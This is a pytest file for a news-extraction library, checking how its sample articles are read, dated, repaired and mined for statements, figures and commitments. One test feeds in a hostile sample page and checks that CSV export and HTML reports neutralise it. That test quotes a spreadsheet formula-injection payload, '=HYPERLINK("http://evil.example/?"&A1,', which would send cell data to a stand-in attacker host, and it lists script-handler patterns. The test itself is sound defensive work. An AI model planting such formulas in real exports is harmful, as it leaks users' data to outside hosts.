"""The packaged examples: every one read, each showing what docs/examples.md says of it.

cases/examples/wild.jsonl holds what the record must hold: {document, kind, text, …}: an item of that kind in the document whose
evidence in some role is the text and whose other fields are as given, actors by a part of their name. known_failures.jsonl: the same, not met yet.
"""

from __future__ import annotations

import json
import zipfile
from importlib.resources import as_file, files
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

import onrecord
from onrecord.api import Document
from onrecord.cli import run

ORIGINALS = Path(__file__).with_name("cases") / "examples"
NAMES = {
    "continental-wire-nuclear.md", "dnieper-chronicle.xml#dc-2014-0223", "dnieper-chronicle.xml#dc-2014-0317",
    "dnieper-chronicle.xml#dc-2014-0529", "eastbound-letter.eml", "elbe-blatt.txt", "harbour-gazette.txt", "northern-courier.html",
    "ostrava-observer.txt", "strategic-ledger.pdf", "two-papers.jsonl#1", "two-papers.jsonl#2", "vistula-dispatch.docx",
    "wire-and-copy.zip/wire/coastal-mercury.txt", "wire-and-copy.zip/wire/continental-wire.txt", "workers-lantern.txt",
}  # fmt: skip
PUBLISHED = {
    "continental-wire-nuclear.md": "2024-05-26", "dnieper-chronicle.xml#dc-2014-0223": "2014-02-23",
    "dnieper-chronicle.xml#dc-2014-0317": "2014-03-17", "dnieper-chronicle.xml#dc-2014-0529": "2014-05-29",
    "eastbound-letter.eml": "2024-05-28", "harbour-gazette.txt": "2024-04-04", "northern-courier.html": "2024-05-29",
    "ostrava-observer.txt": "2024-05-28", "strategic-ledger.pdf": "2024-05-28", "two-papers.jsonl#1": "2014-05-06",
    "two-papers.jsonl#2": "2014-06-01", "vistula-dispatch.docx": "2024-05-30", "wire-and-copy.zip/wire/coastal-mercury.txt": "2014-06-04",
    "wire-and-copy.zip/wire/continental-wire.txt": "2014-06-03",
}  # fmt: skip


def documents(index: bool) -> dict[str, Document]:
    with as_file(files("onrecord") / "examples") as folder:
        paths = sorted(p for p in folder.iterdir() if p.name not in ("index.csv", "README.md") and not p.name.startswith("_"))
        return {d.source: d for d in onrecord.read_all(*paths, index=folder / "index.csv" if index else None)}


@pytest.fixture(scope="module")
def alone() -> dict[str, Document]:
    """The examples by what they say themselves."""
    return documents(index=False)


@pytest.fixture(scope="module")
def indexed() -> dict[str, Document]:
    """The examples with the facts of index.csv."""
    return documents(index=True)


def repairs(document: Document, kind: str) -> list[Any]:
    return [r for r in document.repairs if r.kind == kind]


def original(name: str) -> str:
    return (ORIGINALS / name).read_text("utf-8").strip("\n")


# -- reading ----------------------------------------------------------------------------------------------------------


def test_every_example_is_read(alone: dict[str, Document]) -> None:
    assert set(alone) == NAMES
    assert {name for name, d in alone.items() if d.unread} == {"elbe-blatt.txt"}
    assert alone["elbe-blatt.txt"].language == "de"
    assert alone["elbe-blatt.txt"].items == ()
    assert {d.language for name, d in alone.items() if name != "elbe-blatt.txt"} == {"en"}
    for name, d in alone.items():
        if not d.unread:
            assert d.title, name
            assert len(d.statements) >= 3, name
            assert len(d.figures) >= 3 or name in ("northern-courier.html", "ostrava-observer.txt"), name


def test_every_span_is_exact(indexed: dict[str, Document]) -> None:
    for d in indexed.values():
        for item in d.items:
            for span in item.evidence:
                assert d.text[span.start : span.end] == span.text


def test_dates_as_the_documents_say_them(alone: dict[str, Document], indexed: dict[str, Document]) -> None:
    assert {name: d.published for name, d in alone.items() if d.published and not d.unread} == PUBLISHED
    assert {name: d.published for name, d in indexed.items() if d.published and not d.unread} == PUBLISHED | {"workers-lantern.txt": "2014-06-03"}
    assert indexed["workers-lantern.txt"].published_evidence.basis == "index"


def test_an_undated_monday_stays_unknown(alone: dict[str, Document], indexed: dict[str, Document]) -> None:
    def mondays(d: Document) -> set[str | None]:
        return {i.time.edtf for i in d.items if getattr(i, "time", None) and i.time.text and "Monday" in i.time.text}

    assert mondays(alone["workers-lantern.txt"]) <= {None}
    assert mondays(indexed["workers-lantern.txt"]) <= {"2014-06-02"}
    assert mondays(indexed["ostrava-observer.txt"]) <= {"2024-05-27"}


def test_outlets(indexed: dict[str, Document]) -> None:
    assert {d.outlet for d in indexed.values() if not d.unread} == {
        "Continental Wire", "The Atlantic Standard", "The Coastal Mercury", "The Dnieper Chronicle", "The Eastbound Letter",
        "The Harbour Gazette", "The Northern Courier", "The Ostrava Observer", "The Steppe Herald", "The Strategic Ledger",
        "The Vistula Dispatch", "The Workers’ Lantern",
    }  # fmt: skip


# -- repair -----------------------------------------------------------------------------------------------------------


def test_pdf_repaired_equals_the_original(alone: dict[str, Document]) -> None:
    d = alone["strategic-ledger.pdf"]
    assert d.text == original("strategic-ledger.txt")
    assert len(d.pages) == 2
    assert len(repairs(d, "hyphen")) >= 10
    turn = d.pages[0].end
    assert d.text.rfind("“", 0, turn) > d.text.rfind("”", 0, turn), "the page is to turn inside a quotation"
    heads = "".join(r.before for r in repairs(d, "furniture"))
    assert heads.count("The Strategic Ledger · Spring 2024") == 2
    assert "Ledger" not in d.title


def test_word_file_equals_its_original(alone: dict[str, Document]) -> None:
    assert alone["vistula-dispatch.docx"].text == original("vistula-dispatch.txt")
    assert alone["vistula-dispatch.docx"].authors == ("Agnieszka Torun", "Felix Marlow")


def test_page_break_inside_a_quotation_is_joined(alone: dict[str, Document]) -> None:
    d = alone["harbour-gazette.txt"]
    assert "the papers are signed and the finance ministry cannot change its mind" in d.text
    assert "Give us long-term contracts" in d.text
    assert "Rados?aw" in d.text, "a lost letter is not guessed"
    assert "harbourgazette.example" not in d.text
    assert [r.before.split()[:2] for r in repairs(d, "furniture")] == [["To", "contact"]]
    assert not repairs(d, "gap")


def test_lost_text_is_a_gap(alone: dict[str, Document]) -> None:
    d = alone["ostrava-observer.txt"]
    assert len(repairs(d, "gap")) == 1
    assert "By\n\nnonetheless going ahead" in d.text


def test_one_quotation_over_two_paragraphs(alone: dict[str, Document]) -> None:
    d = alone["workers-lantern.txt"]
    marks = {(d.text[q.offset : q.offset + 8], q.is_) for q in d.quotes}
    assert ("‘I count", "opens") in {(text[:8], is_) for text, is_ in marks}
    assert ("‘If Kiev", "opens") in marks
    assert {q.is_ for q in d.quotes if d.text[q.offset - 9 : q.offset] == "neighbour"} == {"apostrophe"}
    assert "unmatched" not in {q.is_ for q in d.quotes}


def test_the_hostile_page_is_inert(alone: dict[str, Document], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    d = alone["northern-courier.html"]
    for word in ("Injected", "tyres", "podcast", "patriot77", "Subscribe", "<script", "cookie"):
        assert word not in d.text, word
    assert d.title.startswith('=HYPERLINK("http://evil.example/?"&A1,')
    assert d.authors == ("Signe Aldrup",)
    record, site = str(tmp_path / "t.onrecord"), str(tmp_path / "site")
    with as_file(files("onrecord") / "examples" / "northern-courier.html") as page:
        assert run(["read", str(page), "-o", record, "-q"]) == 0
    capsys.readouterr()
    assert run(["export", record, "--format", "csv", "--kind", "document"]) == 0
    table = capsys.readouterr().out
    assert ",\"'=HYPERLINK(" in table, "a formula must not be one in a spreadsheet"
    assert ',"=HYPERLINK(' not in table
    assert run(["report", record, "-o", site]) == 0
    for written in Path(site).rglob("*.html"):
        html = written.read_text("utf-8")
        assert "onload=" not in html
        assert "onerror=" not in html
        assert 'href="http://evil' not in html
        assert "document.write" not in html


# -- what is on record ------------------------------------------------------------------------------------------------


def test_enough_is_on_record(indexed: dict[str, Document]) -> None:
    items = [i for d in indexed.values() for i in d.items]
    assert sum(i.kind == "statement" for i in items) >= 120
    assert sum(i.kind == "figure" for i in items) >= 110
    assert sum(i.kind == "commitment" for i in items) >= 35
    assert len({i.type for i in items if i.kind == "event"}) >= 11
    assert {i.act for i in items if i.kind == "commitment"} >= {"pledge", "threat", "warning", "demand", "refusal"}
    assert {i.unit for i in items if i.kind == "figure" and i.measure == "money"} >= {"EUR", "USD", "GBP", "PLN", "DKK"}
    assert any(len(i.voice.chain) >= 3 for i in items if i.kind == "statement"), "second-hand words"


def cases(name: str) -> list[Any]:
    rows = [json.loads(line) for line in (ORIGINALS / name).read_text("utf-8").splitlines()]
    return [pytest.param(row, id=f"{row['document']}: {row['text'][:40]}") for row in rows]


def holds(document: Document, case: dict[str, Any]) -> bool:
    """Whether the document has an item as the case describes it."""
    wanted = {key: value for key, value in case.items() if key not in ("document", "kind", "text")}
    return any(
        item.kind == case["kind"] and any(span.text == case["text"] for span in item.evidence) and all(same(field(document, item, key), value) for key, value in wanted.items())
        for item in document.items
    )


def same(found: Any, wanted: Any) -> bool:
    if isinstance(found, list):
        return len(found) == len(wanted) and all(w.casefold() in f.casefold() for f, w in zip(found, wanted, strict=True))
    return bool(found == wanted)


def field(document: Document, item: Any, key: str) -> Any:
    if key in ("low", "high", "best"):
        return getattr(item.value, key)
    if key == "edtf":
        return item.time.edtf if item.time else None
    value = item.voice.chain if key == "chain" else getattr(item, key)
    return [document.names.get(v, v) for v in value] if isinstance(value, tuple) else value


@pytest.mark.parametrize("case", cases("wild.jsonl"))
def test_wild(case: dict[str, Any], indexed: dict[str, Document]) -> None:
    assert holds(indexed[case["document"]], case)


@pytest.mark.xfail(reason="known failure", strict=True)
@pytest.mark.parametrize("case", cases("known_failures.jsonl"))
def test_known_failures(case: dict[str, Any], indexed: dict[str, Document]) -> None:
    assert holds(indexed[case["document"]], case)


# -- how the packed ones are made -------------------------------------------------------------------------------------


def test_packed_examples_are_made_from_their_originals() -> None:
    pytest.importorskip("reportlab")
    from bench.make_examples import made

    first, second = made(), made()
    assert first == second
    folder = files("onrecord") / "examples"
    for name in ("vistula-dispatch.docx", "wire-and-copy.zip"):
        with zipfile.ZipFile(BytesIO(first[name])) as new, zipfile.ZipFile(BytesIO((folder / name).read_bytes())) as kept:
            assert new.namelist() == kept.namelist()
            body = [n for n in new.namelist() if n.endswith(("document.xml", ".txt", "core.xml"))]
            assert {n: new.read(n) for n in body} == {n: kept.read(n) for n in body}
            assert {i.date_time for i in kept.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert b"/CreationDate (D:2000" in (folder / "strategic-ledger.pdf").read_bytes()


def test_the_wire_copy_is_nearly_the_wire() -> None:
    wire, copy = (set(original(name).split()) for name in ("wire-ministers.txt", "wire-ministers-copy.txt"))
    assert len(wire & copy) / len(wire | copy) > 0.75


# -- the demonstration ------------------------------------------------------------------------------------------------


def test_demo(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["demo", "-o", str(tmp_path / "demo")]) == 0
    out = capsys.readouterr().out
    for line in ("who speaks", "ledger", "threats", "figures", "gaps", "coverage"):
        assert f"\n{line}" in f"\n{out}"
    assert (tmp_path / "demo" / "site" / "index.html").is_file()
    assert run(["verify", str(tmp_path / "demo" / "crisis.onrecord")]) == 0
